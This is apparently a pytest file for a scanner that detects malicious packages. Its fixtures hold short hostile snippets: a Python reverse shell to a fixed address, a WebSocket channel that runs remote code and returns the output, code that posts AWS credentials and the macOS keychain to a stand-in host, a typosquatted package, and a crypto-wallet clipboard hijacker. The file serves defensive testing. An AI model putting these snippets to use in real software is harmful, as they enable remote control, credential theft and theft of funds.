"""Hosts that vouch for nothing: a shell's peer, a server that sends code, one that is named like the package."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from datetime import UTC, datetime, timedelta

import msgspec
import pytest

from adapters.sigil.local.analysis import facts_of
from adapters.sigil.local.code.facts import Behaviour, Fact, Flow
from adapters.sigil.local.linking import linked
from adapters.sigil.local.material import Ecosystem, Package, Registration, Release
from adapters.sigil.local.phases.network_exfil import network_exfil
from adapters.sigil.local.phases.provenance import provenance
from adapters.sigil.local.phases.scanned import Scanned
from adapters.sigil.models import PhaseName, Severity
from tests.adapters.sigil.local.phases.conftest import Make, Outcome, Pack

_START = datetime(2024, 1, 1, tzinfo=UTC)


def of_day(package: Package, name: str, days: int) -> Package:
    """Give a package another name, and a release so many days after its first."""
    releases = (
        Release(version="0.1.0", published_at=_START),
        Release(version="1.0.0", published_at=_START + timedelta(days=days)),
    )
    return msgspec.structs.replace(package, name=name, registration=Registration(releases=releases))


@pytest.mark.parametrize(("peer", "dangerous"), [("('203.0.113.8', 44)", True), ("address", False)])
def test_a_shell_for_a_fixed_address(
    peer: str, dangerous: bool, pack: Pack, outcome: Callable[[Package], Outcome]
) -> None:
    """A function that opens a shell for an address of its own is an attack; for its caller's it may be a tool."""
    code = (
        "import os, pty, socket\ndef serve(address):\n    s = socket.socket()\n"
        f"    s.connect({peer})\n    os.dup2(s.fileno(), 0)\n"
    )
    assert outcome(pack({"sample/__init__.py": code}, Ecosystem.PYPI)).dangerous is dangerous


@pytest.mark.parametrize(("answer", "dangerous"), [("socket.send(String(out));", True), ("", False)])
def test_a_server_that_sends_code_and_gets_the_outcome(
    answer: str, dangerous: bool, pack: Pack, outcome: Callable[[Package], Outcome]
) -> None:
    """Code from a host of the package's own name is a doubt; where its outcome goes back, somebody steers."""
    code = (
        "const vm = require('vm');\nexports.open = () => { const socket = new WebSocket('wss://sample.invalid/');\n"
        f"socket.on('message', (text) => {{ const out = vm.runInThisContext(text); {answer} }}); }};"
    )
    files: dict[str, str | Mapping[str, object]] = {
        "package.json": {"name": "sample", "main": "index.js"},
        "index.js": code,
    }
    assert outcome(pack(files)).dangerous is dangerous


@pytest.mark.parametrize(
    ("path", "host", "dangerous"),
    [
        ("~/Library/Keychains/login.keychain-db", "sample.invalid", True),
        ("~/.sample/credentials/.ssh/id_rsa", "sample.invalid", False),
        ("~/.aws/credentials", "sample.invalid", True),
    ],
)
def test_keys_of_others_for_a_host_of_the_packages_name(
    path: str, host: str, dangerous: bool, pack: Pack, outcome: Callable[[Package], Outcome]
) -> None:
    """That a host is named like the package explains its own files with secrets, not those of others."""
    code = (
        "import pathlib, requests\ndef sync():\n"
        f"    text = pathlib.Path('{path}').expanduser().read_text()\n    requests.post('https://{host}/', data=text)\n"
    )
    assert outcome(pack({"sample/__init__.py": code}, Ecosystem.PYPI)).dangerous is dangerous


@pytest.mark.parametrize(("days", "served"), [(2, False), (400, True)])
def test_a_name_of_yesterday_vouches_for_no_host(days: int, served: bool, pack: Pack) -> None:
    """A host that is named like a package is its own only when the package has been there for a while."""
    package = of_day(pack({"package.json": {"name": "tide-gauge"}}), "tide-gauge", days)
    assert Scanned(package, {}, {}).serves("https://in.tidegauge.invalid/") is served


@pytest.mark.parametrize(
    ("code", "severity"), [("", Severity.HIGH), ("fetch('https://e.invalid/', { method: 'POST' });", Severity.CRITICAL)]
)
def test_a_look_alike_that_speaks(code: str, severity: Severity, pack: Pack) -> None:
    """A name of yesterday that is a slip away from a popular one, and speaks to a host, is an attack by itself."""
    package = of_day(pack({"package.json": {"name": "mongose", "main": "index.js"}, "index.js": code}), "mongose", 1)
    found = provenance(Scanned(package, linked(package, facts_of(package.files)), {}))
    assert next(finding for finding in found if finding.rule == "typosquat").severity is severity


def test_files_found_for_a_bare_address(made: Make, fact: Callable[..., Fact]) -> None:
    """At load a file of somebody's for a bare address is certain; the package's own manifest is a doubt."""

    def severity(detail: str) -> Severity:
        source = fact(Behaviour.READS_FILE, detail=detail, at_load=True)
        sink = fact(Behaviour.SENDS, detail="http://203.0.113.4/", at_load=True)
        scanned = made({"index.js": (source, sink, Flow(source=source, sink=sink))})
        return next(each.severity for each in network_exfil(scanned) if each.rule == "data-to-drop-point")

    assert severity("…/notes.txt") is Severity.CRITICAL
    assert severity("…/package.json") is Severity.HIGH


def test_wallets_known_by_a_module_beside(pack: Pack, outcome: Callable[[Package], Outcome]) -> None:
    """The addresses that replace what lies on the clipboard may stand in a file that the code imports."""
    swap = (
        "import pyperclip, threading\nfrom .known import SHAPE, OURS\n"
        "class Watch(threading.Thread):\n    def run(self):\n"
        "        if SHAPE.match(pyperclip.paste()):\n            pyperclip.copy(OURS)\nWatch().start()\n"
    )
    known = (
        "import re\nSHAPE = re.compile(r'^0x[a-fA-F0-9]{40}$')\nOURS = '0x000000000000000000000000000000000000dEaD'\n"
    )
    files = {"sample/__init__.py": "from . import swap\n", "sample/swap.py": swap, "sample/known.py": known}
    found = outcome(pack(files, Ecosystem.PYPI))
    assert found.dangerous
    assert "clipboard-replaced" in found.rules(PhaseName.CREDENTIALS)
